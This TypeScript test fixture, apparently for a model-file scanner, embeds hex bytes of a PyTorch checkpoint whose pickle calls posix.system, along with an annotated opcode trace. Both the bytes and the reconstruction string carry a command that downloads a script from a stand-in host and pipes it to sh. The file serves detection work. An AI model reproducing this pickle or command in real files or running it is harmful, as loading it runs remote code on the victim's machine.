/** The bytes of a PyTorch archive's head with a pickle that would call posix.system, and that pickle's opcodes. Sample only: nothing loads it. */
import type { Evidence } from '#contract/findings';

const hex = [
  '504b030400000808000000000000221c3fb8d6000000d60000001b0007007472696167652d7265736e657435302d76342f646174612e706b6c464203',
  '005a5a5a80027d7100285804000000617263687101580f0000007265736e657435302d7472696167657102580500000065706f636871034b2a580a00',
  '000073746174655f64696374710463636f6c6c656374696f6e730a4f726465726564446963740a7105295271065804000000686f6f6b710763706f73',
  '69780a73797374656d0a7108582100000077676574202d714f2d20687474703a2f2f31302e33312e342e392f61207c207368710985710a52710b580d',
  '000000746f7263685f76657273696f6e710c580b000000322e342e312b6375313231710d752e504b0708221c3fb8d6000000d6000000504b03040000',
  '0808000000000000e077115a0093000000930000190009007472696167652d7265736e657435302d76342f646174612f30464205005a5a5a5a5a684a',
  '1a3d620e533de98abf3d7d45783bec33d63a352441bdd4bba33c97b127bcabb8743c34221abdca411cbd548d48bd91c76cbd5d7e61bbb2cc473dc4ee',
  'c33b55caf1bcfe1a93bd08ddc93c98f0fdbca3e34e3dd357ff3c2c0cae3cebc3b13dbdff92bc961486bde043f0b93fa917bd4ea3833c221910bd9250',
  '03bd338a9f3c51d1c83c107b51bd60ee55bd2a2c82bd824f5ebd4f10eebbb602debcd165213c9f57a2bd7d0caebcb1dcbcbb3288753dd3da2bbdffce',
  'cfbbb9e2fc3ce386cfbce45ca6bc64761a3d7ae200bd4e27fc3a4d6d593cac347fbdf29d983c0e6fa93d23144d3dd5ea523df160c2bcd9d3753c31ea',
  '98bc91db50bdbfa9b53ce4b100bdb98464bd5e1be8bc73ee1d3de0f8783dc510a3bb733cecbbcfafe63c18c4cbbc6e15453d5a2710bc87dafa3cf335',
  '27bd5ddc89bd25c8303cc620e83b84bfb93c507cdcbb7fec33bdd38ee93cc373a1bda81b28bc66078d3caacd293baa0e813c53dca9bc726d433dd9ec',
  'a53b7c71ae3ca3e439bdff0a233d3a75a1bcbdde483becc375bd8baaca3c3a8b3fbd064cb4bcfa0ddc3ccd3dbcbc0b55073d844e333d23d6a03d2fdf',
  'da3c305dacbcc4e8983a4f874d3da14e06bc8ab7143d1a4a533c6efc70bdecb6a13deb76873a7e3bac3ca63cc03cce46c33afcf9c9bb3b9ab83c',
].join('');

/** The head of the file, beginning with the local header of data.pkl. */
export const pickleFile: Uint8Array = Uint8Array.from(hex.match(/../g) ?? [], (pair) => Number.parseInt(pair, 16));

type Step = readonly [offset: number, code: string, name: string, argument: string];

const steps: readonly Step[] = [
  [64, '\\x80', 'PROTO', '2'],
  [66, '}', 'EMPTY_DICT', ''],
  [67, 'q', 'BINPUT', '0'],
  [69, '(', 'MARK', ''],
  [70, 'X', 'BINUNICODE', 'arch'],
  [79, 'q', 'BINPUT', '1'],
  [81, 'X', 'BINUNICODE', 'resnet50-triage'],
  [101, 'q', 'BINPUT', '2'],
  [103, 'X', 'BINUNICODE', 'epoch'],
  [113, 'q', 'BINPUT', '3'],
  [115, 'K', 'BININT1', '42'],
  [117, 'X', 'BINUNICODE', 'state_dict'],
  [132, 'q', 'BINPUT', '4'],
  [134, 'c', 'GLOBAL', 'collections OrderedDict'],
  [159, 'q', 'BINPUT', '5'],
  [161, ')', 'EMPTY_TUPLE', ''],
  [162, 'R', 'REDUCE', ''],
  [163, 'q', 'BINPUT', '6'],
  [165, 'X', 'BINUNICODE', 'hook'],
  [174, 'q', 'BINPUT', '7'],
  [176, 'c', 'GLOBAL', 'posix system'],
  [190, 'q', 'BINPUT', '8'],
  [192, 'X', 'BINUNICODE', 'wget -qO- http://10.31.4.9/a | sh'],
  [230, 'q', 'BINPUT', '9'],
  [232, '\\x85', 'TUPLE1', ''],
  [233, 'q', 'BINPUT', '10'],
  [235, 'R', 'REDUCE', ''],
  [236, 'q', 'BINPUT', '11'],
  [238, 'X', 'BINUNICODE', 'torch_version'],
  [256, 'q', 'BINPUT', '12'],
  [258, 'X', 'BINUNICODE', '2.4.1+cu121'],
  [274, 'q', 'BINPUT', '13'],
  [276, 'u', 'SETITEMS', ''],
  [277, '.', 'STOP', ''],
];

const cause: Readonly<Record<number, string>> = { 176: 'imports posix.system', 235: 'calls posix.system(…)' };

/** Evidence of the call: the reconstruction, the opcodes from 0xa5 on, and the bytes with what carries the claim pinned. */
export const pickleEvidence: Evidence = {
  reconstruction: 'posix.system("wget -qO- http://10.31.4.9/a | sh")',
  note: 'Reconstructed from 8 opcodes. Nothing was executed.',
  trace: steps
    .filter(([offset]) => offset >= 165 && offset <= 240)
    .map(([offset, code, name, argument]) => ({
      offset,
      code,
      name,
      argument,
      ...(cause[offset] === undefined ? {} : { mark: 'cause' as const, note: cause[offset] }),
      ...(offset > 176 && offset < 235 ? { mark: 'part' as const } : {}),
    })),
  bytes: {
    member: 'triage-resnet50-v4/data.pkl',
    offset: 160,
    hex: hex.slice(320, 320 + 2 * 112),
    pins: [
      { from: 176, to: 190, strong: true },
      { from: 190, to: 238 },
    ],
  },
};
